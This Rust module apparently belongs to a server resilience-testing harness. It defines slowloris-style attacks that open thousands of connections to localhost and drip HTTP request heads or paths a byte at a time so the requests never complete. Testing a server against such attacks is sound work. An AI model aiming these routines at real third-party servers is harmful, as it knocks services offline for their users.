//! Request heads that never end.

use std::sync::Arc;

use super::bodies::drip;
use crate::attack::Attack;
use crate::stage::{Play, Stage, crowd, ready};

const KIND: &str = "heads";

/// Attacks of this kind.
pub const ATTACKS: &[Attack] = &[
    Attack::new(
        "dripping-heads",
        KIND,
        "10,000 connections begin a request and send a byte of its head a second",
        |stage| ready(dripping_heads(stage)),
    )
    .lasting(6.0),
    Attack::variation(
        "dripping-targets",
        KIND,
        "2,000 connections send a path that goes on, 100 bytes a second",
        |stage| ready(dripping_targets(stage)),
    ),
    Attack::variation(
        "second-heads",
        KIND,
        "2,000 connections send one good request and then a head that drips",
        |stage| ready(second_heads(stage)),
    ),
];

fn dripping_heads(stage: Stage) -> Play {
    dripping(stage, 10_000, b"GET /health/live HTTP/1.1\r\nHost: localhost\r\nX: ", b"a")
}

fn dripping_targets(stage: Stage) -> Play {
    dripping(stage, 2_000, b"GET /", &[b'a'; 100])
}

fn second_heads(stage: Stage) -> Play {
    // The response to the first request stays unread, so that it is not mistaken for one to the second.
    let head =
        b"GET /health/live HTTP/1.1\r\nHost: localhost\r\n\r\nGET /health/live HTTP/1.1\r\nX: ";
    crowd(2_000, move |_| {
        let stage = stage.clone();
        async move {
            let Some(connection) = stage.connect_and_send(head).await else { return };
            stage.hear("begun");
            drip_unheard(connection).await;
            stage.hear("closed");
        }
    })
}

async fn drip_unheard(mut connection: tokio::net::TcpStream) {
    while tokio::io::AsyncWriteExt::write_all(&mut connection, b"a").await.is_ok() {
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    }
}

fn dripping(stage: Stage, connections: usize, head: &[u8], drop: &[u8]) -> Play {
    let (head, drop): (Arc<[u8]>, Arc<[u8]>) = (head.into(), drop.into());
    crowd(connections, move |_| {
        let (stage, head, drop) = (stage.clone(), Arc::clone(&head), Arc::clone(&drop));
        async move { drip(&stage, &head, &drop).await }
    })
}
